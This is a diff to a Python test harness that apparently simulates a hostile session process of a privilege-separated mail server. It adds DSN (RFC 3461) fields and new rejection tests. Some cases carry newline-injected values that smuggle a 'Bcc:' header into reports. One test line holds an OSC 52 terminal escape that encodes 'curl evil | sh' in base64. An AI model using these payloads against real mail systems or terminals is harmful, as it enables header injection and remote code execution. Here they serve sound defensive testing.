@@ -58,6 +58,11 @@ def recv():
     return t, recv_exact(n)
 
 
+# The DSN fields (RFC 3461) of PS_MAIL (u32 RET, str ENVID) and of PS_RCPT and
+# PS_ACCEPT (u32 NOTIFY, str ORCPT): none given.
+DSN_MAIL = u32(0) + s("")
+DSN_RCPT = u32(0) + s("")
+
 in_mail = False
 
 
@@ -65,7 +70,7 @@ def mail():
     """PS_MAIL: a transaction starts (every lookup needs one); not authenticated, it
     has no answer."""
     global in_mail
-    send(T["PS_MAIL"], s("a@example.org"))
+    send(T["PS_MAIL"], s("a@example.org") + DSN_MAIL)
     in_mail = True
 
 
@@ -94,7 +99,7 @@ def memfd(data, seal=True):
 
 def deliver(fd, size):
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s("X-Hostile: " + case + "\n"))
+    send(T["PS_RCPT"], s("bob") + s("X-Hostile: " + case + "\n") + DSN_RCPT)
     send(T["PS_DELIVER"], delivery(size), fd=fd)
 
 
@@ -112,11 +117,32 @@ if case == "good":
 elif case == "bad-id":
     # An id that would add a header field to a report (parent/report.c).
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_DELIVER"], u64(len(MSG)) + u32(1) + s("ID\nBcc: victim@example.org") + s(""),
          fd=memfd(MSG))
+elif case == "dsn-notify":
+    # NEVER with SUCCESS (RFC 3461 4.1): the session refuses it with 501.
+    lookup("bob")
+    send(T["PS_RCPT"], s("bob") + s("") + u32(8 | 1) + s(""))
+elif case == "dsn-orcpt":
+    # An ORCPT that would add a header field to a report (parent/report.c).
+    lookup("bob")
+    send(T["PS_RCPT"], s("bob") + s("") + u32(0) + s("rfc822;a@b\nBcc: victim@example.org"))
+elif case == "dsn-envid":
+    send(T["PS_MAIL"], s("a@example.org") + u32(0) + s("id\nBcc: victim@example.org"))
+elif case == "dsn-ret":
+    send(T["PS_MAIL"], s("a@example.org") + u32(3) + s(""))
+elif case == "dsn-accept":
+    send(T["PS_AUTH"], s("alice") + s("secret") + s("127.0.0.1"))
+    t, p = recv()
+    assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == 0, p
+    send(T["PS_MAIL"], s("") + DSN_MAIL)
+    t, p = recv()
+    send(T["PS_LOOKUP"], s("x") + s("remote.example"))
+    t, p = recv()
+    send(T["PS_ACCEPT"], u32(16) + s(""))
 elif case == "unlooked":
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_DELIVER"], delivery(len(MSG)), fd=memfd(MSG))
 elif case == "check-unlooked":
     send(T["PS_CHECK"], s("bob") + u64(0))
@@ -125,19 +151,19 @@ elif case == "check-size":
     send(T["PS_CHECK"], s("bob") + u64(1 << 62))
 elif case == "check-pending":
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_CHECK"], s("bob") + u64(0))
 elif case == "twice":
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
 elif case == "overannounced":
     # More spool announced (and copied) than then delivered: the delivery fails, not
     # the session, and nothing is kept.
     lookup("bob")
     send(T["PS_CHECK"], s("bob") + u64(0))
     recv()
-    send(T["PS_RCPT"], s("bob") + s("X-Hostile: overannounced\n"))
+    send(T["PS_RCPT"], s("bob") + s("X-Hostile: overannounced\n") + DSN_RCPT)
     fd = memfd(MSG * 2, seal=False)
     send(T["PS_BEGIN"], u32(1), fd=fd)
     send(T["PS_MORE"], u64(len(MSG) * 2))
@@ -152,7 +178,7 @@ elif case == "more-unbegun":
     send(T["PS_MORE"], u64(10))
 elif case == "begun-other":
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s("X-Hostile: begun\n"))
+    send(T["PS_RCPT"], s("bob") + s("X-Hostile: begun\n") + DSN_RCPT)
     fd = memfd(MSG)
     send(T["PS_BEGIN"], u32(1), fd=fd)
     send(T["PS_DELIVER"], delivery(len(MSG), 2), fd=fd)
@@ -168,13 +194,13 @@ elif case == "ttymany":
                           open(os.path.join(TOP, "common", "config.h")).read()).group(1))
     lookup("bob")
     for i in range(limit + 1):
-        send(T["PS_RCPT"], s("bob") + s(""))
+        send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
         send(T["PS_TTY_CHECK"])
         t, p = recv()
         assert t == T["PS_TTY_ANS"], (t, p)
 elif case == "ttyremote":
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_TTY_CHECK"])
     t, p = recv()
     assert t == T["PS_TTY_ANS"], (t, p)
@@ -192,7 +218,7 @@ elif case in ("ttygood", "ttytitle", "ttyclear", "ttybanner", "ttyosc52"):
         "ttyosc52": b"| \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\r\n",
     }[case]
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_TTY_WRITE"], s(head + body + b"EOF\r\n"))
     t, p = recv()
     assert t == T["PS_TTY_ANS"], (t, p)
@@ -234,20 +260,20 @@ elif case == "relay-unauthenticated":
     send(T["PS_LOOKUP"], s("x") + s("remote.example"))
     t, p = recv()
     assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
-    send(T["PS_ACCEPT"])
+    send(T["PS_ACCEPT"], DSN_RCPT)
 elif case == "relay-literal":
     # After a successful AUTH, an address literal: the parent refuses to relay it
     # (550 5.7.1 in the session), and a session that accepts it anyway is ended.
     send(T["PS_AUTH"], s("alice") + s("secret") + s("127.0.0.1"))
     t, p = recv()
     assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == 0, p
-    send(T["PS_MAIL"], s(""))	# the null sender: no address of alice's needed
+    send(T["PS_MAIL"], s("") + DSN_MAIL)	# the null sender: no address of alice's needed
     t, p = recv()
     assert t == T["PS_MAIL_ANS"], (t, p)
     send(T["PS_LOOKUP"], s("x") + s("[127.0.0.1]"))
     t, p = recv()
     assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
-    send(T["PS_ACCEPT"])
+    send(T["PS_ACCEPT"], DSN_RCPT)
 elif case == "fifo":
     d = os.environ["HOSTILE_DIR"]
     os.mkfifo(d + "/fifo")
@@ -260,7 +286,7 @@ elif case == "unsealed":
     deliver(memfd(MSG, seal=False), len(MSG))
 elif case == "no-spool":
     lookup("bob")
-    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
     send(T["PS_DELIVER"], delivery(len(MSG)))
 elif case.startswith("sign-"):
     # Issue 21: run with --tls-cert/--tls-key of an ECDSA P-256 pair: the real session
@@ -294,7 +320,7 @@ elif case.startswith("sign-"):
         send(T["PS_TLS_KEYS"])
     elif case == "sign-pending":	# with recipients pending
         lookup("bob")
-        send(T["PS_RCPT"], s("bob") + s(""))
+        send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
         sign(0, P256, b"h" * 32)
     elif case == "sign-no-tls":	# run without TLS options
         sign(0, P256, b"h" * 32)
